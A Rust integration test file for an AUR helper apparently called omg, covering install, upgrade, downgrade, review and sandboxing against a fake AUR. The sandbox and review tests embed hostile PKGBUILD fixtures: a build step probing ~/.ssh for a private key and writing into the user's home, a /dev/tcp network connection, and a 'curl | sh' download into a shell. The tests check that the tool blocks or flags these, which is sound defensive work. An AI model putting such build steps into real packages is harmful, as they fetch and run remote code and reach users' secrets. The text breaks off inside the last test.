//! Installing and upgrading AUR packages end to end: a local AUR (RPC
//! records and git repositories over HTTP), makepkg run by omg as an
//! ordinary user, and the packages installed into a temporary Arch root
//! through sudo and a root omgd.

mod common;

use std::collections::BTreeSet;

use common::arch::{ArchRoot, Spec};
use common::aur::{AurSpec, FakeAur};
use common::{Env, Run, SudoRule};

const REPO: &[Spec] = &[
    Spec::new("libgreet-arch", "1.0-1", "greeting library"),
    Spec::new("lonely-arch", "1.0-1", "needed only to build"),
];

struct Setup {
    root: ArchRoot,
    aur: FakeAur,
    env: Env,
    _rule: SudoRule,
}

fn setup() -> Option<Setup> {
    if !std::path::Path::new("/usr/bin/sudo").is_file() {
        return common::skip("sudo is not installed (scripts/install-deps.sh installs it)");
    }
    let root = ArchRoot::new(REPO);
    root.pacman(&["-Sy"]);
    let aur = FakeAur::start();
    aur.publish(
        "aur-lib",
        "1.0-1",
        &[AurSpec {
            name: "aur-lib",
            depends: &["libgreet-arch"],
            make_depends: &["lonely-arch"],
        }],
        false,
    );
    publish_app(&aur, "1.0-1");
    let mut env = Env::new();
    env.aur_url = aur.server.url.clone();
    std::fs::create_dir_all(env.dir.path().join("home")).unwrap();
    common::give_to_nobody(env.dir.path());
    let rule = SudoRule::for_nobody(*common::OMGD, "aur");
    Some(Setup {
        root,
        aur,
        env,
        _rule: rule,
    })
}

impl Setup {
    /// omg as `nobody` on the fixture root.
    fn command(&self, args: &[&str]) -> std::process::Command {
        let mut command = self.env.command("/usr/bin/setpriv");
        command
            .args(["--reuid=nobody", "--regid=nogroup", "--clear-groups"])
            .arg(*common::OMG)
            .args(["--backend", "alpm", "--pacman-conf"])
            .arg(self.root.conf())
            .args(args)
            .env("HOME", self.env.dir.path().join("home"))
            .env("PATH", common::plain_path());
        command
    }

    /// Runs omg as `nobody`, answering nothing.
    fn omg(&self, args: &[&str]) -> Run {
        self.command(args)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
            .into()
    }

    /// Like `omg`, with `input` as the answers on standard input.
    fn omg_answering(&self, args: &[&str], input: &str) -> Run {
        use std::io::Write;
        let mut child = self
            .command(args)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(input.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap().into()
    }

    fn q(&self, flag: &str) -> BTreeSet<String> {
        self.root
            .pacman_query(&[flag])
            .lines()
            .map(str::to_string)
            .collect()
    }
}

/// Publishes `version` of aur-app (needing aur-lib) in the AUR.
fn publish_app(aur: &FakeAur, version: &str) {
    aur.publish(
        "aur-app",
        version,
        &[AurSpec {
            name: "aur-app",
            depends: &["aur-lib>=1.0"],
            make_depends: &[],
        }],
        false,
    );
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

fn ok(run: &Run) {
    assert_eq!(
        run.code, 0,
        "omg failed:\nstdout: {}\nstderr: {}",
        run.stdout, run.stderr
    );
}

#[test]
fn an_aur_package_with_aur_and_repository_dependencies_installs_and_upgrades() {
    let Some(s) = setup() else {
        return;
    };
    let run = s.omg(&["install", "--noconfirm", "--removemake", "aur-app"]);
    ok(&run);
    // The plan: the library is built first.
    let lib = run.stdout.find("1) aur-lib").expect("aur-lib first");
    let app = run.stdout.find("2) aur-app").expect("aur-app second");
    assert!(lib < app, "{}", run.stdout);
    assert_eq!(
        s.q("-Q"),
        set(&["aur-app 1.0-1", "aur-lib 1.0-1", "libgreet-arch 1.0-1"])
    );
    assert_eq!(s.q("-Qeq"), set(&["aur-app"]));
    assert_eq!(s.q("-Qdq"), set(&["aur-lib", "libgreet-arch"]));
    // The make-only dependency was installed to build, then removed.
    assert!(run.stdout.contains("lonely-arch"), "{}", run.stdout);
    let installed = s.root.path("root/usr/share/aur-app/VERSION");
    assert_eq!(std::fs::read_to_string(&installed).unwrap().trim(), "1.0-1");
    assert_eq!(
        std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(&installed).unwrap()),
        0
    );

    // A newer version in the AUR: upgrade builds and installs it.
    publish_app(&s.aur, "1.1-1");
    let run = s.omg(&["upgrade", "--noconfirm"]);
    ok(&run);
    assert!(
        run.stdout.contains("aur-app 1.0-1 -> 1.1-1"),
        "{}",
        run.stdout
    );
    assert!(s.q("-Q").contains("aur-app 1.1-1"));
    assert_eq!(s.q("-Qeq"), set(&["aur-app"]), "the reason is kept");
    assert_eq!(std::fs::read_to_string(&installed).unwrap().trim(), "1.1-1");
}

#[test]
fn a_failed_build_leaves_the_system_as_it_was() {
    let Some(s) = setup() else {
        return;
    };
    s.aur.publish(
        "aur-broken",
        "1.0-1",
        &[AurSpec {
            name: "aur-broken",
            depends: &["lonely-arch"],
            make_depends: &[],
        }],
        true,
    );
    let run = s.omg(&["install", "--noconfirm", "aur-broken"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.stderr.contains("building aur-broken failed"),
        "{}",
        run.stderr
    );
    assert!(
        s.q("-Qq").is_empty(),
        "the dependency installed for it is gone again"
    );
}

#[test]
fn root_is_refused_and_a_dry_run_shows_the_order() {
    let Some(s) = setup() else {
        return;
    };
    let mut env = Env::new();
    env.aur_url = s.aur.server.url.clone();
    env.pacman_conf = Some(s.root.conf().to_path_buf());
    env.configure("backend = \"alpm\"\n");
    let run = env.omg(&["install", "--dry-run", "aur-app"]);
    ok(&run);
    assert!(
        run.stdout.contains("1) aur-lib") && run.stdout.contains("2) aur-app"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("libgreet-arch"), "{}", run.stdout);
    let run = env.omg(&["install", "--noconfirm", "aur-app"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains("must not run as root"),
        "{}",
        run.stderr
    );
    assert!(s.q("-Qq").is_empty());
    // Unknown everywhere: a clear error.
    let run = env.omg(&["install", "--noconfirm", "no-such-thing"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("no-such-thing"), "{}", run.stderr);
}

#[test]
fn builds_are_reviewed_first_then_only_what_changed() {
    let Some(s) = setup() else {
        return;
    };
    let lib = |version| {
        s.aur.publish(
            "aur-lib",
            version,
            &[AurSpec {
                name: "aur-lib",
                depends: &[],
                make_depends: &[],
            }],
            false,
        )
    };
    // First time: the whole PKGBUILD, then the question.
    let run = s.omg_answering(&["install", "aur-lib"], "y\ny\n");
    ok(&run);
    assert!(run.stdout.contains("==> PKGBUILD"), "{}", run.stdout);
    assert!(run.stdout.contains("pkgver=1.0"), "{}", run.stdout);
    assert!(
        run.stdout.contains("Build aur-lib? [Y/n]"),
        "{}",
        run.stdout
    );
    assert!(s.q("-Q").contains("aur-lib 1.0-1"));
    // A new version: only the change since the review.
    lib("1.1-1");
    let run = s.omg_answering(&["upgrade"], "y\ny\n");
    ok(&run);
    assert!(
        run.stdout.contains("-pkgver=1.0") && run.stdout.contains("+pkgver=1.1"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("==> PKGBUILD"), "{}", run.stdout);
    assert!(s.q("-Q").contains("aur-lib 1.1-1"));
    // Declined: nothing is built or changed.
    lib("1.2-1");
    let run = s.omg_answering(&["upgrade"], "n\n");
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(run.stderr.contains("declined"), "{}", run.stderr);
    assert!(s.q("-Q").contains("aur-lib 1.1-1"));
}

#[test]
fn devel_rebuilds_vcs_packages_whose_upstream_moved_on() {
    let Some(s) = setup() else {
        return;
    };
    let upstream_work = s.aur.git_root.path().join("work-upstream");
    s.aur
        .commit("upstream-tool.git", &upstream_work, "VERSION", "1\n");
    let pkgbuild = format!(
        "pkgname=tool-git\npkgver=r1\npkgrel=1\npkgdesc='a VCS package'\narch=('any')\nlicense=('MIT')\n\
         source=(\"tool::git+{}/upstream-tool.git\")\nsha256sums=('SKIP')\n\
         pkgver() {{\n  cd tool\n  echo \"r$(git rev-list --count HEAD)\"\n}}\n\
         package() {{\n  mkdir -p \"$pkgdir/usr/share/tool-git\"\n  cp tool/VERSION \"$pkgdir/usr/share/tool-git/VERSION\"\n}}\n",
        s.aur.server.url
    );
    let spec = [AurSpec {
        name: "tool-git",
        depends: &[],
        make_depends: &[],
    }];
    s.aur.publish_pkgbuild("tool-git", "r1-1", &spec, &pkgbuild);
    ok(&s.omg(&["install", "--noconfirm", "tool-git"]));
    assert!(s.q("-Q").contains("tool-git r1-1"));
    let installed = s.root.path("root/usr/share/tool-git/VERSION");
    assert_eq!(std::fs::read_to_string(&installed).unwrap().trim(), "1");

    // Upstream unchanged: nothing to rebuild.
    let run = s.omg(&["upgrade", "--noconfirm", "--devel"]);
    ok(&run);
    assert!(
        !run.stdout.contains("upstream has new commits"),
        "{}",
        run.stdout
    );

    // A new upstream commit (the AUR's version stays r1-1): rebuilt.
    s.aur
        .commit("upstream-tool.git", &upstream_work, "VERSION", "2\n");
    let run = s.omg(&["upgrade", "--noconfirm", "--devel"]);
    ok(&run);
    assert!(
        run.stdout.contains("tool-git: upstream has new commits"),
        "{}",
        run.stdout
    );
    assert!(s.q("-Q").contains("tool-git r2-1"), "{:?}", s.q("-Q"));
    assert_eq!(std::fs::read_to_string(&installed).unwrap().trim(), "2");
}

/// A throwaway OpenPGP key in its own GnuPG home; returns (home, fingerprint).
fn packager_key(dir: &std::path::Path) -> (std::path::PathBuf, String) {
    let home = dir.join("packager-gnupg");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::set_permissions(&home, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let gpg = |args: &[&str]| {
        common::system_with(
            std::process::Command::new("gpg")
                .arg("--homedir")
                .arg(&home)
                .args(["--batch", "--quiet", "--passphrase", ""])
                .args(args),
        )
    };
    gpg(&[
        "--quick-gen-key",
        "upstream dev <dev@example.org>",
        "ed25519",
        "sign",
        "never",
    ]);
    let listing = gpg(&["--list-keys", "--with-colons"]);
    let fingerprint = listing
        .lines()
        .find_map(|l| l.strip_prefix("fpr:"))
        .and_then(|l| l.split(':').find(|f| !f.is_empty()))
        .unwrap()
        .to_string();
    (home, fingerprint)
}

fn gpg_in(home: &std::path::Path, args: &[&str]) -> String {
    common::system_with(
        std::process::Command::new("gpg")
            .arg("--homedir")
            .arg(home)
            .args(["--batch", "--quiet", "--yes"])
            .args(args),
    )
}

#[test]
fn signed_sources_are_checked_against_the_keys_the_user_trusts() {
    let Some(s) = setup() else {
        return;
    };
    let (home, fingerprint) = packager_key(s.env.dir.path());
    let work = s.aur.git_root.path().join("work-signed");
    let publish = |data: &str, signed: &str| {
        let scratch = s.env.dir.path().join("to-sign");
        std::fs::write(&scratch, signed).unwrap();
        let armored = gpg_in(
            &home,
            &[
                "--armor",
                "--detach-sign",
                "--output",
                "-",
                scratch.to_str().unwrap(),
            ],
        );
        s.aur.commit("signed.git", &work, "data.txt", data);
        s.aur.commit("signed.git", &work, "data.txt.asc", &armored);
        let pkgbuild = format!(
            "pkgname=signed\npkgver=1.0\npkgrel=1\npkgdesc='signed sources'\narch=('any')\nlicense=('MIT')\n\
             source=('data.txt' 'data.txt.asc')\nsha256sums=('{}' 'SKIP')\nvalidpgpkeys=('{fingerprint}')\n\
             package() {{\n  install -Dm644 data.txt \"$pkgdir/usr/share/signed/data.txt\"\n}}\n",
            common::sha256_hex(data.as_bytes())
        );
        let spec = [AurSpec {
            name: "signed",
            depends: &[],
            make_depends: &[],
        }];
        s.aur.publish_pkgbuild("signed", "1.0-1", &spec, &pkgbuild);
    };
    let keys = s.env.dir.path().join("config/aur-keys");

    // No trusted key yet: refused.
    publish("release data\n", "release data\n");
    let run = s.omg(&["install", "--noconfirm", "signed"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(run.stderr.contains("no trusted key"), "{}", run.stderr);
    assert!(s.q("-Qq").is_empty());

    // The user trusts the packager's key: installed.
    std::fs::create_dir_all(&keys).unwrap();
    std::fs::write(
        keys.join("upstream.asc"),
        gpg_in(&home, &["--armor", "--export"]),
    )
    .unwrap();
    let run = s.omg(&["install", "--noconfirm", "signed"]);
    ok(&run);
    assert!(
        run.stdout.contains("data.txt: good signature"),
        "{}",
        run.stdout
    );
    assert!(s.q("-Qq").contains("signed"));

    // Data changed (checksum updated to match) under the old signature:
    // refused, the installed version stays.
    publish("tampered data\n", "release data\n");
    let run = s.omg(&["install", "--noconfirm", "aur/signed"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(
        run.stderr.contains("not a valid signature"),
        "{}",
        run.stderr
    );
    let installed = s.root.path("root/usr/share/signed/data.txt");
    assert_eq!(
        std::fs::read_to_string(installed).unwrap(),
        "release data\n"
    );
    let _ = std::process::Command::new("gpgconf")
        .arg("--homedir")
        .arg(&home)
        .args(["--kill", "gpg-agent"])
        .output();
}

#[test]
fn a_dependency_only_provided_in_the_aur_is_found_by_its_provider() {
    let Some(s) = setup() else {
        return;
    };
    let record = |name: &str, depends: &[&str], provides: &[&str]| {
        serde_json::json!({
            "Name": name, "PackageBase": name, "Version": "1.0-1",
            "Description": "AUR test package", "NumVotes": 1, "Popularity": 0.5,
            "OutOfDate": null, "Maintainer": "tester", "FirstSubmitted": 0, "LastModified": 0,
            "URLPath": format!("/cgit/aur.git/snapshot/{name}.tar.gz"),
            "Depends": depends, "Provides": provides,
        })
    };
    s.aur
        .add_record(record("virt-impl", &[], &["virt-thing=2.0"]));
    s.aur
        .add_record(record("virt-consumer", &["virt-thing>=1.5"], &[]));
    let mut env = Env::new();
    env.aur_url = s.aur.server.url.clone();
    env.pacman_conf = Some(s.root.conf().to_path_buf());
    env.configure("backend = \"alpm\"\n");
    let run = env.omg(&["install", "--dry-run", "virt-consumer"]);
    ok(&run);
    let provider = run.stdout.find("1) virt-impl").expect("the provider first");
    let consumer = run
        .stdout
        .find("2) virt-consumer")
        .expect("then the consumer");
    assert!(provider < consumer, "{}", run.stdout);
}

#[test]
fn an_aur_package_downgrades_to_an_older_commit_of_its_base_and_back() {
    let Some(s) = setup() else {
        return;
    };
    let tool = |version| {
        s.aur.publish(
            "aur-tool",
            version,
            &[AurSpec {
                name: "aur-tool",
                depends: &[],
                make_depends: &[],
            }],
            false,
        )
    };
    tool("1.0-1");
    ok(&s.omg(&["install", "--noconfirm", "aur-tool"]));
    tool("1.1-1");
    ok(&s.omg(&["upgrade", "--noconfirm"]));
    tool("1.2-1");
    ok(&s.omg(&["upgrade", "--noconfirm"]));
    assert!(s.q("-Q").contains("aur-tool 1.2-1"));
    let installed = s.root.path("root/usr/share/aur-tool/VERSION");

    // The versions: those built here (kept in the package cache) and the
    // one only the AUR's history has any more.
    let cache = s.root.path("root/var/cache/pacman/pkg");
    for entry in std::fs::read_dir(&cache).unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.starts_with("aur-tool-1.0-1") {
            std::fs::remove_file(entry.path()).unwrap();
        }
    }
    let run = s.omg(&["downgrade", "--json", "aur-tool"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    let listed: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let sources = |version: &str| -> Vec<String> {
        listed
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["version"] == version)
            .map(|v| {
                v["sources"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|s| s.as_str().unwrap().to_string())
                    .collect()
            })
            .unwrap_or_default()
    };
    let old = sources("1.0-1");
    assert!(
        old.len() == 1 && old[0].starts_with("AUR "),
        "{}",
        run.stdout
    );
    let kept = sources("1.1-1");
    assert!(kept.contains(&"cache".to_string()), "{}", run.stdout);
    assert!(kept.iter().any(|s| s.starts_with("AUR ")), "{}", run.stdout);

    // Picked from the list: built from the older commit (shown for
    // review), installed with its install reason, recorded.
    let run = s.omg_answering(&["downgrade", "aur-tool"], "2\ny\ny\nn\n");
    ok(&run);
    assert!(run.stdout.contains("1.0-1"), "{}", run.stdout);
    assert!(
        run.stdout.contains("is in the AUR's history of aur-tool"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("Build aur-tool? [Y/n]"),
        "{}",
        run.stdout
    );
    assert!(s.q("-Q").contains("aur-tool 1.0-1"), "{}", run.stdout);
    assert_eq!(s.q("-Qeq"), set(&["aur-tool"]), "the reason is kept");
    assert_eq!(std::fs::read_to_string(&installed).unwrap().trim(), "1.0-1");
    // The root omgd sudo started keeps the system's history (sudo leaves
    // no OMG_* variable to it); other tests write there too.
    let history = s
        .env
        .command(*common::OMG)
        .env("OMG_DATA_DIR", "/var/lib/omg")
        .args(["history", "--json", "--limit", "100"])
        .output()
        .unwrap();
    let history: serde_json::Value = serde_json::from_slice(&history.stdout).unwrap();
    let entry = history
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["command"] == "downgrade aur-tool 1.0-1")
        .expect("the downgrade is in the history");
    assert_eq!(entry["changes"][0]["old"], "1.2-1", "{entry}");
    assert_eq!(entry["changes"][0]["new"], "1.0-1", "{entry}");
    let id = entry["id"].as_u64().unwrap().to_string();

    // Rolled back: 1.2-1 again, from the package cache it was kept in.
    let run = s.omg(&["rollback", "--noconfirm", &id]);
    ok(&run);
    assert!(s.q("-Q").contains("aur-tool 1.2-1"), "{}", run.stdout);
    assert_eq!(std::fs::read_to_string(&installed).unwrap().trim(), "1.2-1");

    // Named on the command line, a version the cache has comes from the
    // cache (nothing built); one nowhere is refused, nothing changed.
    let run = s.omg(&["downgrade", "--noconfirm", "aur-tool", "1.1-1"]);
    ok(&run);
    assert!(!run.stdout.contains("AUR's history"), "{}", run.stdout);
    assert!(s.q("-Q").contains("aur-tool 1.1-1"));
    let run = s.omg(&["downgrade", "--noconfirm", "aur-tool", "0.5-1"]);
    assert_ne!(run.code, 0, "{}", run.stdout);
    assert!(s.q("-Q").contains("aur-tool 1.1-1"));
}

/// Publishes base `name` whose `build()` runs `body`.
fn publish_builder(s: &Setup, name: &'static str, body: &str) {
    let pkgbuild = format!(
        "pkgname={name}\npkgver=1.0\npkgrel=1\npkgdesc='tries things'\narch=('any')\nlicense=('MIT')\n\
         build() {{\n{body}\n}}\n\
         package() {{\n  mkdir -p \"$pkgdir/usr/share/{name}\"\n}}\n"
    );
    let spec = [AurSpec {
        name,
        depends: &[],
        make_depends: &[],
    }];
    s.aur.publish_pkgbuild(name, "1.0-1", &spec, &pkgbuild);
}

#[test]
fn builds_run_sandboxed_without_the_network_or_the_users_files() {
    let Some(s) = setup() else {
        return;
    };
    let home = s.env.dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_test"), "a private key\n").unwrap();
    common::give_to_nobody(&home);
    let real = home.display();
    publish_builder(
        &s,
        "sandbox-home",
        &format!(
            "  touch \"$HOME/cache-of-a-build\"\n  if [ -e '{real}/.ssh/id_test' ]; then echo 'SECRET VISIBLE'; fi\n  echo stolen > '{real}/stolen'"
        ),
    );
    let run = s.omg(&["install", "--noconfirm", "sandbox-home"]);
    let output = format!("{}{}", run.stdout, run.stderr);
    assert_eq!(run.code, 1, "{output}");
    assert!(output.contains("Read-only file system"), "{output}");
    assert!(output.contains("sandbox"), "{output}");
    assert!(!output.contains("SECRET VISIBLE"), "{output}");
    assert!(!home.join("stolen").exists(), "the real home is unchanged");
    assert!(
        s.env
            .dir
            .path()
            .join("cache/aur/.sandbox-home.home/cache-of-a-build")
            .exists(),
        "the build's private home is writable"
    );
    assert!(!s.q("-Qq").contains("sandbox-home"));

    // The network is the sandbox's own: a server on the host's loopback is
    // out of reach.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    publish_builder(
        &s,
        "sandbox-net",
        &format!("  exec 3<>/dev/tcp/127.0.0.1/{port}\n  echo 'REACHED THE NETWORK'"),
    );
    let run = s.omg(&["install", "--noconfirm", "sandbox-net"]);
    let output = format!("{}{}", run.stdout, run.stderr);
    assert_eq!(run.code, 1, "{output}");
    assert!(output.contains("Connection refused"), "{output}");
    assert!(!output.contains("REACHED THE NETWORK"), "{output}");
    assert!(listener.accept().is_err(), "nothing connected");
    assert!(!s.q("-Qq").contains("sandbox-net"));
}

#[test]
fn without_a_working_bwrap_omg_asks_before_building_unsandboxed() {
    let Some(s) = setup() else {
        return;
    };
    // A bwrap that cannot make a sandbox (as where user namespaces are off).
    let bin = s.env.dir.path().join("broken-bwrap");
    std::fs::create_dir_all(&bin).unwrap();
    std::fs::write(bin.join("bwrap"), "#!/bin/sh\nexit 1\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(bin.join("bwrap"), std::fs::Permissions::from_mode(0o755)).unwrap();
    common::give_to_nobody(&bin);
    let path = format!("{}:{}", bin.display(), common::plain_path());
    publish_builder(&s, "plain-build", "  true");
    let refused = s
        .command(&["install", "--noconfirm", "plain-build"])
        .env("PATH", &path)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let refused: Run = refused.into();
    assert_eq!(refused.code, 1, "{}", refused.stdout);
    assert!(
        refused.stderr.contains("bubblewrap") && refused.stderr.contains("not built"),
        "{}",
        refused.stderr
    );
    assert!(!s.q("-Qq").contains("plain-build"));
    // Asked, the user may build without one: review, sandbox, install.
    let mut child = s
        .command(&["install", "plain-build"])
        .env("PATH", &path)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"y\ny\ny\n").unwrap();
    let asked: Run = child.wait_with_output().unwrap().into();
    ok(&asked);
    assert!(
        asked
            .stdout
            .contains("would run with all your rights over your files and the network"),
        "{}",
        asked.stdout
    );
    assert!(
        asked
            .stdout
            .contains("Build plain-build without a sandbox? [y/N]"),
        "{}",
        asked.stdout
    );
    assert!(s.q("-Qq").contains("plain-build"));
    // Turned off in config.toml: built without one, without asking.
    std::fs::create_dir_all(s.env.dir.path().join("config")).unwrap();
    std::fs::write(
        s.env.dir.path().join("config/config.toml"),
        "[aur]\nsandbox = false\n",
    )
    .unwrap();
    common::give_to_nobody(&s.env.dir.path().join("config"));
    let built: Run = s
        .command(&["install", "--noconfirm", "plain-build"])
        .env("PATH", &path)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
        .into();
    ok(&built);
    assert!(s.q("-Qq").contains("plain-build"));
}

/// The packages each transaction the root's pacman.log records installed,
/// in order.
fn transactions(s: &Setup) -> Vec<BTreeSet<String>> {
    let log = std::fs::read_to_string(s.root.path("root/var/log/pacman.log")).unwrap_or_default();
    let mut out: Vec<BTreeSet<String>> = Vec::new();
    for line in log.lines() {
        if line.contains("[ALPM] transaction started") {
            out.push(BTreeSet::new());
        } else if let Some(rest) = line.split("[ALPM] installed ").nth(1)
            && let Some(last) = out.last_mut()
        {
            last.insert(rest.split(' ').next().unwrap().to_string());
        }
    }
    out
}

/// When a build's `build()` started and ended (its BUILD lines in the log).
fn build_window(log: &str) -> (f64, f64) {
    let time = |tag: &str| -> f64 {
        log.lines()
            .find_map(|l| l.strip_prefix(tag))
            .unwrap_or_else(|| panic!("no {tag} in:\n{log}"))
            .trim()
            .parse()
            .unwrap()
    };
    (time("BUILD-START "), time("BUILD-END "))
}

#[test]
fn independent_bases_build_at_once_and_each_level_is_one_transaction() {
    let Some(s) = setup() else {
        return;
    };
    for name in ["par-a", "par-b", "par-c"] {
        publish_builder(
            &s,
            name,
            "  echo \"BUILD-START $(date +%s.%N)\"\n  sleep 2\n  echo \"BUILD-END $(date +%s.%N)\"",
        );
    }
    s.aur.publish(
        "par-top",
        "1.0-1",
        &[AurSpec {
            name: "par-top",
            depends: &["par-a", "par-b"],
            make_depends: &[],
        }],
        false,
    );
    std::fs::create_dir_all(s.env.dir.path().join("config")).unwrap();
    std::fs::write(
        s.env.dir.path().join("config/config.toml"),
        "[aur]\njobs = 3\n",
    )
    .unwrap();
    common::give_to_nobody(&s.env.dir.path().join("config"));
    let run = s.omg(&["install", "--noconfirm", "par-top", "par-c"]);
    ok(&run);
    assert!(
        run.stdout
            .contains("building par-a par-b par-c (3 at a time"),
        "{}",
        run.stdout
    );
    // Each build's output is in its log; the three ran at the same time.
    let logs = s.env.dir.path().join("cache/aur/logs");
    let windows: Vec<(f64, f64)> = ["par-a", "par-b", "par-c"]
        .iter()
        .map(|n| build_window(&std::fs::read_to_string(logs.join(format!("{n}.log"))).unwrap()))
        .collect();
    for (i, a) in windows.iter().enumerate() {
        for b in &windows[i + 1..] {
            assert!(a.0 < b.1 && b.0 < a.1, "builds overlap: {windows:?}");
        }
    }
    assert!(logs.join("par-top.log").is_file());
    // One transaction for the independent three, one for what needs them.
    assert_eq!(
        transactions(&s),
        [set(&["par-a", "par-b", "par-c"]), set(&["par-top"])]
    );
    assert_eq!(s.q("-Qeq"), set(&["par-c", "par-top"]));
    assert_eq!(s.q("-Qdq"), set(&["par-a", "par-b"]));
}

#[test]
fn a_failed_build_among_several_shows_its_log_and_installs_nothing_of_its_level() {
    let Some(s) = setup() else {
        return;
    };
    publish_builder(&s, "good-one", "  echo fine");
    publish_builder(&s, "bad-one", "  echo 'compiler says no' >&2\n  false");
    let run = s.omg(&["install", "--noconfirm", "good-one", "bad-one"]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("compiler says no"), "{}", run.stdout);
    assert!(run.stdout.contains("bad-one.log"), "{}", run.stdout);
    assert!(
        run.stderr.contains("building bad-one failed"),
        "{}",
        run.stderr
    );
    assert!(s.q("-Qq").is_empty(), "{:?}", s.q("-Qq"));
}

#[test]
fn the_review_starts_with_what_deserves_a_look() {
    let Some(s) = setup() else {
        return;
    };
    let work = s.aur.git_root.path().join("work-risky");
    let srcinfo = |ver: &str, extra: &str| {
        format!(
            "pkgbase = risky\n\tpkgver = {ver}\n\tpkgrel = 1\n\tarch = any\n{extra}\npkgname = risky\n"
        )
    };
    let pkgbuild = |ver: &str, extra: &str| {
        format!(
            "pkgname=risky\npkgver={ver}\npkgrel=1\npkgdesc='risky'\narch=('any')\nlicense=('MIT')\n{extra}\npackage() {{\n  mkdir -p \"$pkgdir/usr/share/risky\"\n}}\n"
        )
    };
    s.aur.commit_files(
        "risky.git",
        &work,
        &[
            ("PKGBUILD", &pkgbuild("1.0", "")),
            (".SRCINFO", &srcinfo("1.0", "")),
        ],
    );
    let spec = [AurSpec {
        name: "risky",
        depends: &[],
        make_depends: &[],
    }];
    s.aur
        .publish_pkgbuild("risky", "1.0-1", &spec, &pkgbuild("1.0", ""));
    let run = s.omg_answering(&["install", "risky"], "y\ny\n");
    ok(&run);
    assert!(!run.stdout.contains("deserves a look"), "{}", run.stdout);

    // Version 2: a source from a new host with its checksum skipped, an
    // install script, a download piped into a shell, a signing key; and a
    // new maintainer, on a base the AUR says is two days old.
    let extra = "source=('https://downloads.example.net/risky-2.0.tar.gz')\nsha256sums=('SKIP')\nvalidpgpkeys=('0123456789ABCDEF0123456789ABCDEF01234567')\ninstall=risky.install\nbuild() {\n  curl -fsSL https://get.example.net/setup | sh\n}\n";
    s.aur
        .publish_pkgbuild("risky", "2.0-1", &spec, &pkgbuild("2.0", extra));
    s.aur.commit_files(
        "risky.git",
        &work,
        &[
            (
                ".SRCINFO",
                &srcinfo(
                    "2.0",
                    "\tinstall = risky.install\n\tsource = https://downloads.example.net/risky-2.0.tar.gz\n\tvalidpgpkeys = 0123456789ABCDEF0123456789ABCDEF01234567\n\tsha256sums = SKIP\n",
                ),
            ),
            ("risky.install", "post_install() {\n  echo hi\n}\n"),
        ],
    );
    s.aur
        .set_field("risky", "Maintainer", serde_json::json!("someone-else"));
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    s.aur.set_field(
        "risky",
        "FirstSubmitted",
        serde_json::json!(now - 2 * 86400),
    );
    let run = s.omg_answering(&["upgrade"], "n\n");
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let out = &run.stdout;
    let summary = out.find("risky 2.0-1: what deserves a look (since your last review)");
    let diff = out.find("+pkgver=2.0");
    assert!(
        summary.is_some() && diff.is_some() && summary < diff,
        "the summary comes before the diff:\n{out}"
    );
    for expected in [
        "new maintainer since your last review: someone-else (was tester)",
        "a download piped into a shell, PKGBUILD line",
        "curl -fsSL https://get.example.net/setup | sh",
        "install script added: risky.install",
        "new source host: downloads.example.net",
        "new checksum SKIP on a download",
        "validpgpkeys changed; added 0123456789ABCDEF0123456789ABCDEF01234567",
        "new to the AUR: first submitted 2 days ago",
    ] {
        assert!(out.contains(expected), "{expected:?} in:\n{out}");
    }
    assert!(s.q("-Q").contains("risky 1.0-1"), "declined: nothing built");
}

/// The default Node.js of the environment's user, as its link says.
fn node_default(s: &Setup) -> String {
    std::fs::read_link(s.env.data_dir().join("versions/node/current"))
        .map(|p| p.display().to_string())
        .unwrap_or_default()
}

#[test]
fn upgrade_all_is_one_plan_and_one_rollback_undoes_it() {
    let Some(s) = setup() else {
        return;
    };
    // A repository package the recorded Arch tracker data calls
    // vulnerable (AVG-708, fixed in 2.6.1-1), an AUR package, Node.js.
    let alsa = common::http::FileServer::start();
    alsa.put(
        "/issues/all.json",
        common::upstream_fixture("alsa/issues-all.vulnerablecode-archlinux.json"),
    );
    let node = common::node::NodeMirror::with(&["20.10.0"]);
    common::give_to_nobody(node.keys.path());
    s.env.configure(&format!(
        "{}[security]\nalsa_url = \"{}/issues/all.json\"\n",
        node.config(),
        alsa.url()
    ));
    s.root
        .publish(&[Spec::new("wireshark-cli", "2.6.0-1", "network analyzer")]);
    s.root.pacman(&["-Sy"]);
